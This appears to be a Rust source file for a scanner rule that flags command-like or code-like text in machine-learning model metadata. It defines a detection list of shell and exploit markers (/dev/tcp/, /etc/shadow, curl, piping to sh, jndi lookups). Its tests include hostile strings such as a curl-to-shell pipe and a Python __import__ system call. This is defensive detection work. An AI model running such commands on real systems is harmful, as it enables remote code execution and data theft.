//! Texts of a model that read like a command or like program code.
//!
//! Formats that hold numbers have a few free texts: names of features, an objective, notes. No loader runs them, but a
//! program that shows or trusts them may, and honest ones do not look like this. So it is worth a look and no more.

use assay_core::{Location, Rule, RuleId, Severity};
use memchr::memmem;

use crate::Report;

/// A text reads like a command.
pub(crate) const COMMAND_TEXT: Rule = Rule {
    id: RuleId::new("model-command-text"),
    severity: Severity::Medium,
    summary: "A text in the model reads like a command or like program code",
    taxonomy: &["CWE-506", "AML.T0010", "OWASP-LLM03"],
};

/// Bytes of a text that are looked at.
const MAX_TEXT: usize = 64 << 10;

/// Bytes of it that are shown.
const SHOWN: usize = 120;

/// What commands and code have and texts of models do not, in lower case.
const WORDS: &[&str] = &[
    "__builtins__",
    "__globals__",
    "__import__",
    "__subclasses__",
    "/bin/bash",
    "/bin/sh",
    "/dev/tcp/",
    "/etc/passwd",
    "/etc/shadow",
    "<script",
    "${jndi:",
    "$(curl",
    "$(wget",
    "base64 -d",
    "cmd.exe",
    "curl -",
    "curl http",
    "importlib.import_module",
    "java.lang.runtime",
    "javascript:",
    "os.popen",
    "os.system",
    "powershell",
    "processbuilder",
    "pty.spawn",
    "rm -rf",
    "runtime.getruntime",
    "socket.socket",
    "subprocess.",
    "wget http",
];

/// Calls, which begin a word of their own: `eval(` and not `retrieval(`.
const CALLS: &[&str] = &["eval(", "exec(", "execfile(", "popen(", "system("];

/// Shells behind a pipe, which end there: `| sh` and not `| shape |`.
const SHELLS: &[&str] = &["| bash", "| sh", "|bash", "|sh"];

/// What in this text reads like a command.
pub(crate) fn command_in(text: &str) -> Option<&'static str> {
    let text = text.get(..text.floor_char_boundary(MAX_TEXT)).unwrap_or(text).to_ascii_lowercase();
    let bytes = text.as_bytes();
    let word = WORDS.iter().find(|word| memmem::find(bytes, word.as_bytes()).is_some());
    let begins = |at: usize| {
        let before = at.checked_sub(1).and_then(|before| bytes.get(before));
        before.is_none_or(|byte| !(byte.is_ascii_alphanumeric() || *byte == b'_'))
    };
    let called = |call: &&&str| memmem::find_iter(bytes, call.as_bytes()).any(begins);
    let ends =
        |end: usize| bytes.get(end).is_none_or(|byte| !(byte.is_ascii_alphanumeric() || *byte == b'_'));
    let piped = |shell: &&&str| {
        memmem::find_iter(bytes, shell.as_bytes()).any(|at| ends(at.saturating_add(shell.len())))
    };
    let word = word.or_else(|| SHELLS.iter().find(piped));
    word.or_else(|| CALLS.iter().find(called)).copied()
}

/// Reports a text that reads like a command; `what` says what text it is.
pub(crate) fn judge(text: &str, what: &str, place: Location, report: &mut Report<'_>) {
    let Some(word) = command_in(text) else { return };
    let start = text.get(..text.floor_char_boundary(SHOWN)).unwrap_or(text);
    let message = format!("{what} reads like a command or code: {start}");
    report.hit(&COMMAND_TEXT, place, &message, &[("text", start), ("word", word)]);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands_and_code_are_told_from_names() {
        for text in [
            "__import__('os').system('id')",
            "custom os.system(\"id\")",
            "EVAL(x)",
            "x;eval(1)",
            "curl http://192.0.2.1|sh",
            "<Script>",
            "Runtime.getRuntime()",
        ] {
            assert!(command_in(text).is_some(), "{text}");
        }
        for text in [
            "retrieval(x)",
            "binary sigmoid:1",
            "system",
            "user_shell",
            "poly(x, 2)",
            "os",
            "curling http",
            "evaluation | shared | shape",
            "",
        ] {
            assert_eq!(command_in(text), None, "{text}");
        }
    }
}
